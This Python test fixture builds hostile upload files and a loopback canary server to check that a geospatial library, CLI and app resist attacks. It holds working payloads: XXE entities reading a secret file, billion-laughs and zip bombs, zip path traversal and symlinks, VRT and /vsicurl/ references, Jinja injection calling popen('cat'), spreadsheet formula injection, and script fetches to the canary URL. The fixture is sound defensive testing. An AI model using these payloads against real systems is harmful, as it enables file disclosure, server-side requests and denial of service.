"""A corpus of hostile upload files, with a canary secret file and a canary HTTP server.

Each file either points at the canary (a local secret file, or a URL on a loopback server
that counts requests) or attacks the reader (bombs, entities, traversal, lies about its
type). The tests feed every file through the library, the CLI and the app and check that
each gets a one-line error or a harmless result, that the secret never shows, and that the
canary server is never asked for anything.
"""

from __future__ import annotations

import http.server
import io
import json
import secrets
import sqlite3
import tempfile
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import shapely


@dataclass
class Canary:
    """A secret file and a loopback HTTP server that records every request it gets."""

    secret: str
    secret_path: Path
    port: int
    hits: list[str] = field(default_factory=list)
    server: http.server.ThreadingHTTPServer | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def close(self) -> None:
        if self.server is not None:
            self.server.shutdown()
            self.server.server_close()


def start_canary(folder: Path) -> Canary:
    """Write the secret file into ``folder`` and start the canary server on 127.0.0.1."""
    secret = f"CANARY{secrets.token_hex(8)}"
    secret_path = folder / "secret.csv"
    # Shaped like data a reader would happily show: a table of points whose name is secret.
    secret_path.write_text(f"name,lon,lat\n{secret},120.3,37.2\n", encoding="utf-8")
    hits: list[str] = []
    body = secret_path.read_bytes()

    class Handler(http.server.BaseHTTPRequestHandler):
        def _answer(self, with_body: bool) -> None:
            hits.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if with_body:
                self.wfile.write(body)

        def do_GET(self) -> None:
            self._answer(True)

        def do_HEAD(self) -> None:
            self._answer(False)

        def do_POST(self) -> None:
            self._answer(True)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return Canary(secret, secret_path, server.server_address[1], hits, server)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its name, its bytes, and whether a harmless result is acceptable."""

    name: str
    content: bytes
    may_succeed: bool = False
    why: str = ""


def _vrt(source: str) -> bytes:
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="x">'
        f"<SrcDataSource>{source}</SrcDataSource>"
        '<GeometryType>wkbPoint</GeometryType><GeometryField encoding="PointFromColumns" '
        'x="lon" y="lat"/></OGRVRTLayer></OGRVRTDataSource>'
    ).encode()


def _zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _symlink_zip(name: str, target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = (0o120777 << 16) | 0x20  # a symbolic link
        archive.writestr(info, target)
    return buffer.getvalue()


def _real_shapefile_parts(tmp: Path) -> dict[str, bytes]:
    frame = gpd.GeoDataFrame(
        {"name": ["a"]}, geometry=[shapely.Point(120.3, 37.2)], crs="EPSG:4326"
    )
    path = tmp / "pts.shp"
    frame.to_file(path, engine="pyogrio")
    return {
        suffix: path.with_suffix(suffix).read_bytes() for suffix in (".shp", ".shx", ".dbf", ".prj")
    }


def _gpkg(tmp: Path, name: str) -> Path:
    frame = gpd.GeoDataFrame(
        {"name": ["a"]}, geometry=[shapely.Point(120.3, 37.2)], crs="EPSG:4326"
    )
    path = tmp / name
    frame.to_file(path, engine="pyogrio", layer="pts")
    return path


def _gpkg_with_virtual_ogr(tmp: Path, secret_path: Path) -> bytes:
    path = _gpkg(tmp, "virtual.gpkg")
    connection = sqlite3.connect(path)
    connection.execute("PRAGMA writable_schema = ON")
    connection.execute(
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES "
        "('table', 'evil', 'evil', 0, ?)",
        (f"CREATE VIRTUAL TABLE evil USING VirtualOGR('{secret_path}')",),
    )
    connection.execute(
        "INSERT INTO gpkg_contents (table_name, data_type, identifier) "
        "VALUES ('evil', 'attributes', 'evil')"
    )
    connection.commit()
    connection.close()
    return path.read_bytes()


def _sqlite_not_gpkg(tmp: Path) -> bytes:
    path = tmp / "plain.sqlite"
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE t (x)")
    connection.commit()
    connection.close()
    return path.read_bytes()


def _xlsx_with_entity(secret_path: Path) -> bytes:
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://'
        f'{secret_path}">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main"><sheetData><row><c t="inlineStr"><is><t>&s;</t></is></c></row></sheetData>'
        "</worksheet>"
    )
    return _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/content-types"/>',
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": sheet.encode(),
        }
    )


def _lying_zip(parts: dict[str, bytes]) -> bytes:
    """A shapefile whose .shp says it unpacks to 100 bytes but inflates to 10 MB."""
    content = _zip({**parts, "pts.shp": b"\x00" * 10_000_000})
    data = bytearray(content)
    real = (10_000_000).to_bytes(4, "little")
    fake = (100).to_bytes(4, "little")
    index = data.find(real)
    while index != -1:
        data[index : index + 4] = fake
        index = data.find(real, index + 4)
    return bytes(data)


def _template_injection(secret: str) -> bytes:
    """A table whose text would read the secret if any renderer ran it as a Jinja template."""
    read = "{{ cycler.__init__.__globals__.__builtins__.open('" + secret + "').read() }}"
    run = (
        "{% for c in [1] %}{{ lipsum.__globals__['os'].popen('cat " + secret + "').read() }}"
        "{% endfor %}"
    )
    return f'name,"{read}",lon,lat\n"{read}","{run}",120.3,37.2\n'.encode()


def build_corpus(canary: Canary) -> list[Hostile]:
    """Return the hostile files, made against ``canary``."""
    secret = str(canary.secret_path)
    url = f"{canary.url}/data.csv"
    vrt_local, vrt_url = _vrt(secret), _vrt(f"/vsicurl/{url}")
    vrt_csv = _vrt(f"CSV:{secret}")
    gml = (
        '<?xml version="1.0"?><ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
        'xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<gml:featureMember xlink:href="{url}#f1"/></ogr:FeatureCollection>'
    ).encode()
    xxe_kml = (
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY s SYSTEM "file://{secret}">]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&s;</name>'
        "<Point><coordinates>120.3,37.2</coordinates></Point></Placemark></kml>"
    ).encode()
    xxe_remote = (
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY % p SYSTEM "{url}"> %p;]>'
        '<kml xmlns="http://www.opengis.net/kml/2.2"/>'
    ).encode()
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
        + "]><kml><Placemark><name>&i;</name></Placemark></kml>"
    ).encode()
    network_link = (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link>'
        f"<href>{url}</href></Link></NetworkLink></kml>"
    ).encode()
    html_kml = (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>'
        f"&lt;img src=&quot;{canary.url}/img.png&quot;&gt;</name><description><![CDATA["
        f'<script>fetch("{canary.url}/script")</script><img src="{canary.url}/img2.png">]]>'
        "</description><Point><coordinates>120.3,37.2</coordinates></Point></Placemark></kml>"
    ).encode()
    point = {"type": "Point", "coordinates": [120.3, 37.2]}
    geojson_link_crs = json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "link", "properties": {"href": f"{canary.url}/crs", "type": "proj4"}},
            "features": [{"type": "Feature", "geometry": point, "properties": {}}],
        }
    ).encode()
    geojson_url_crs = json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": f"{canary.url}/crs.json"}},
            "features": [{"type": "Feature", "geometry": point, "properties": {}}],
        }
    ).encode()
    geojson_html = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {
                    "type": "Feature",
                    "geometry": point,
                    "properties": {
                        "name": f'<img src="{canary.url}/x.png" onerror="alert(1)">',
                        "path": f"/vsicurl/{url}",
                        "note": "<script>alert(1)</script>",
                    },
                }
            ],
        }
    ).encode()
    with tempfile.TemporaryDirectory() as tmp_name:
        tmp = Path(tmp_name)
        shp = _real_shapefile_parts(tmp)
        gpkg_virtual = _gpkg_with_virtual_ogr(tmp, canary.secret_path)
        sqlite_plain = _sqlite_not_gpkg(tmp)
        real_gpkg = _gpkg(tmp, "real.gpkg").read_bytes()
        ecef_gpkg = gpkg_in(tmp, "EPSG:4978", (-2.6e6, 4.7e6))
        site_grid = zipped_shapefile_with_prj(tmp, SITE_GRID_WKT)
    shapefile_zip = {f"pts{s}": c for s, c in shp.items()}
    corpus = [
        Hostile("vrt_local.gpkg", vrt_local, why="VRT saved as GeoPackage"),
        Hostile("vrt_local.geojson", vrt_local, why="VRT saved as GeoJSON"),
        Hostile("vrt_local.json", vrt_local, why="VRT saved as JSON"),
        Hostile("vrt_local.fgb", vrt_local, why="VRT saved as FlatGeobuf"),
        Hostile("vrt_local.parquet", vrt_local, why="VRT saved as GeoParquet"),
        Hostile("vrt_local.kml", vrt_local, why="VRT saved as KML"),
        Hostile("vrt_local.csv", vrt_local, why="VRT saved as CSV"),
        Hostile("vrt_csv_prefix.gpkg", vrt_csv, why="VRT with a CSV: driver prefix"),
        Hostile("vrt_url.gpkg", vrt_url, why="VRT fetching a URL, as GeoPackage"),
        Hostile("vrt_url.geojson", vrt_url, why="VRT fetching a URL, as GeoJSON"),
        Hostile("vrt_url.fgb", vrt_url, why="VRT fetching a URL, as FlatGeobuf"),
        Hostile("vrt.vrt", vrt_local, why="a plain .vrt"),
        Hostile(
            "evil_shp.zip",
            _zip({"evil.shp": vrt_local, "evil.shx": vrt_local, "evil.dbf": vrt_local}),
            why="VRT zipped as evil.shp",
        ),
        Hostile("vrt_in_zip.zip", _zip({"layer.vrt": vrt_local}), why="zip holding a .vrt"),
        Hostile(
            "dbf_is_vrt.zip",
            _zip({**shapefile_zip, "pts.dbf": vrt_local}),
            why="real .shp with a VRT as .dbf",
        ),
        Hostile(
            "prj_url.zip",
            _zip({**shapefile_zip, "pts.prj": f"{canary.url}/prj".encode()}),
            why="a .prj holding a URL",
        ),
        Hostile("kmz_vrt.kmz", _zip({"doc.kml": vrt_local}), why="KMZ whose doc.kml is a VRT"),
        Hostile("kmz_only_vrt.kmz", _zip({"x.vrt": vrt_url}), why="KMZ holding only a VRT"),
        Hostile("kmz_xxe.kmz", _zip({"doc.kml": xxe_kml}), why="KMZ with an external entity"),
        Hostile("xlink.gml", gml, why="GML with xlinks (not an allowed format)"),
        Hostile("gml_as.geojson", gml, why="GML with xlinks saved as GeoJSON"),
        Hostile("gml_as.gpkg", gml, why="GML with xlinks saved as GeoPackage"),
        Hostile("remote_crs_link.geojson", geojson_link_crs, why="GeoJSON crs of type link"),
        Hostile("remote_crs_name.geojson", geojson_url_crs, why="GeoJSON crs named by a URL"),
        Hostile(
            "html_props.geojson",
            geojson_html,
            may_succeed=True,
            why="HTML and a /vsicurl/ path as attribute text",
        ),
        Hostile(
            "template_injection.csv",
            _template_injection(secret),
            may_succeed=True,
            why="Jinja expressions reading the secret, as a column name and as values",
        ),
        Hostile("xxe.kml", xxe_kml, why="KML with an external entity on the secret"),
        Hostile("xxe_remote.kml", xxe_remote, why="KML with a remote parameter entity"),
        Hostile("billion_laughs.kml", laughs, why="entity expansion bomb"),
        Hostile("network_link.kml", network_link, why="KML NetworkLink to a URL"),
        Hostile(
            "html_description.kml",
            html_kml,
            may_succeed=True,
            why="KML whose name and description hold HTML fetching URLs",
        ),
        Hostile("xxe.xlsx", _xlsx_with_entity(canary.secret_path), why="XLSX with an entity"),
        Hostile("zip_bomb.zip", _zip({"pts.shp": b"\x00" * 300_000_000}), why="zip bomb"),
        Hostile(
            "zip_lying_size.zip", _lying_zip(shapefile_zip), why="member inflating past its size"
        ),
        Hostile("nested.zip", _zip({"inner.zip": _zip(shapefile_zip)}), why="zip in a zip"),
        Hostile(
            "nested_kmz.zip", _zip({"inner.kmz": _zip({"doc.kml": xxe_kml})}), why="KMZ in a zip"
        ),
        Hostile("traversal.zip", _zip({"../../evil.shp": shp[".shp"]}), why="../ member"),
        Hostile("absolute.zip", _zip({"/tmp/evil.shp": shp[".shp"]}), why="absolute member"),
        Hostile("symlink.zip", _symlink_zip("pts.shp", secret), why="symlink member"),
        Hostile(
            "many_members.zip",
            _zip({f"f{i}.txt": b"x" for i in range(400)}),
            why="too many members",
        ),
        Hostile(
            "no_prj.zip",
            _zip({k: v for k, v in shapefile_zip.items() if not k.endswith(".prj")}),
            why="shapefile without .prj",
        ),
        Hostile("sqlite_not_gpkg.gpkg", sqlite_plain, why="SQLite without GeoPackage id"),
        Hostile("virtual_ogr.gpkg", gpkg_virtual, why="GeoPackage with a VirtualOGR table"),
        Hostile("truncated.gpkg", real_gpkg[:120], why="GeoPackage cut short"),
        Hostile("text.gpkg", b"hello, this is not a database", why="text as GeoPackage"),
        Hostile("sqlite_as.fgb", real_gpkg, why="GeoPackage saved as FlatGeobuf"),
        Hostile("fake.parquet", b"PAR1" + vrt_local + b"PAR1", why="junk between PAR1 marks"),
        Hostile("oversize.csv", b"lon,lat\n" + b"120.3,37.2\n" * 5_000_000, why="55 MB CSV"),
        Hostile("oversize.geojson", b" " * (51 * 2**20), why="51 MB of whitespace"),
        Hostile("binary.csv", bytes(range(256)) * 64, why="binary bytes as CSV"),
        Hostile("deep.json", b"[" * 200_000 + b"]" * 200_000, why="deeply nested JSON"),
        Hostile(
            "gbk_points.csv",
            "名称,经度,纬度\n三山岛,120.3,37.2\n".encode("gbk"),
            may_succeed=True,
            why="GBK-encoded points",
        ),
        Hostile(
            "formula.csv",
            b"name,lon,lat\n=cmd|' /C calc'!A0,120.3,37.2\n",
            may_succeed=True,
            why="spreadsheet formula as a name",
        ),
        Hostile(
            "vsicurl_cell.csv",
            f"name,lon,lat\n/vsicurl/{url},120.3,37.2\n".encode(),
            may_succeed=True,
            why="a /vsicurl/ path as cell text",
        ),
        Hostile("no_ending", vrt_local, why="no file ending"),
        Hostile("vertical_crs.geojson", geojson_in("EPSG:5703"), why="heights only (NAVD88)"),
        Hostile("geocentric_crs.gpkg", ecef_gpkg, why="X, Y, Z from the Earth's centre"),
        Hostile("site_grid.zip", site_grid, why="a local engineering CRS (ProjError once)"),
        Hostile("deep_header.xlsx", xlsx_with_deep_header(), why="a header of three rows"),
    ]
    return corpus


# --- Files once read silently wrong: each must read correctly or be reported --------------

_KML_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2" '
    'xmlns:gx="http://www.google.com/kml/ext/2.2"><Document>'
)


def kml(*placemarks: str) -> bytes:
    """Return a KML document holding ``placemarks`` (each a ``<Placemark>`` element's text)."""
    return (_KML_HEAD + "".join(placemarks) + "</Document></kml>").encode()


def kml_track(name: str, coords: list[tuple[float, float]]) -> str:
    """Return a placemark holding one ``gx:Track`` through ``coords`` ("lon lat alt" entries)."""
    whens = "".join(f"<when>2024-05-0{i + 1}T00:00:00Z</when>" for i in range(len(coords)))
    points = "".join(f"<gx:coord>{x} {y} 12.5</gx:coord>" for x, y in coords)
    return f"<Placemark><name>{name}</name><gx:Track>{whens}{points}</gx:Track></Placemark>"


def kml_multi_track(name: str, tracks: list[list[tuple[float, float]]]) -> str:
    """Return a placemark holding one ``gx:MultiTrack`` of ``tracks``."""
    inner = "".join(
        "<gx:Track>" + "".join(f"<gx:coord>{x} {y} 0</gx:coord>" for x, y in t) + "</gx:Track>"
        for t in tracks
    )
    return f"<Placemark><name>{name}</name><gx:MultiTrack>{inner}</gx:MultiTrack></Placemark>"


def kml_ring_in_multigeometry(name: str) -> str:
    """Return a placemark whose MultiGeometry holds a point and a LinearRing."""
    ring = "120.2,37.1 120.4,37.1 120.4,37.3 120.2,37.1"
    return (
        f"<Placemark><name>{name}</name><MultiGeometry><Point><coordinates>120.3,37.2"
        f"</coordinates></Point><LinearRing><coordinates>{ring}</coordinates></LinearRing>"
        "</MultiGeometry></Placemark>"
    )


def xlsx_with_merged_header(*, extra_sheet: bool = False) -> bytes:
    """Return a workbook whose header is two rows: 坐标 merged over 经度 and 纬度."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "矿点"
    sheet.append(["名称", "坐标", None])
    sheet.append([None, "经度", "纬度"])
    sheet.append(["三山岛", 120.3, 37.2])
    sheet.append(["焦家", 120.1, 37.4])
    sheet.merge_cells("B1:C1")
    sheet.merge_cells("A1:A2")
    if extra_sheet:
        book.create_sheet("说明").append(["来源", "野外调查"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_plain(sheets: dict[str, list[list[object]]]) -> bytes:
    """Return a workbook with one sheet per item, rows as given."""
    import openpyxl

    book = openpyxl.Workbook()
    default = book.active
    assert default is not None
    book.remove(default)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


#: A local engineering CRS (a mine's site grid), as a shapefile's .prj or a GeoJSON's crs.
SITE_GRID_WKT = (
    'LOCAL_CS["site grid",LOCAL_DATUM["local",0],UNIT["metre",1],AXIS["X",EAST],AXIS["Y",NORTH]]'
)


def geojson_in(crs: str, coordinates: tuple[float, float] = (120.3, 37.2)) -> bytes:
    """Return a one-point GeoJSON whose (pre-RFC 7946) ``crs`` member names ``crs``."""
    return json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": crs}},
            "features": [
                {
                    "type": "Feature",
                    "properties": {"name": "a"},
                    "geometry": {"type": "Point", "coordinates": list(coordinates)},
                }
            ],
        }
    ).encode()


def gpkg_in(tmp: Path, crs: str, coordinates: tuple[float, float]) -> bytes:
    """Return a one-point GeoPackage in ``crs``."""
    frame = gpd.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(coordinates)], crs=crs)
    path = tmp / "in_crs.gpkg"
    frame.to_file(path, engine="pyogrio")
    return path.read_bytes()


def zipped_shapefile_with_prj(tmp: Path, prj: str) -> bytes:
    """Return a zipped one-point shapefile whose .prj is ``prj``."""
    parts = _real_shapefile_parts(tmp)
    parts[".prj"] = prj.encode()
    return _zip({f"pts{suffix}": content for suffix, content in parts.items()})


def xlsx_with_deep_header() -> bytes:
    """Return a workbook whose header spans three rows (名称 merged over A1:A3)."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(xlsx_with_merged_header()))
    sheet = book.worksheets[0]
    assert sheet is not None
    sheet.unmerge_cells("A1:A2")
    sheet.merge_cells("A1:A3")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
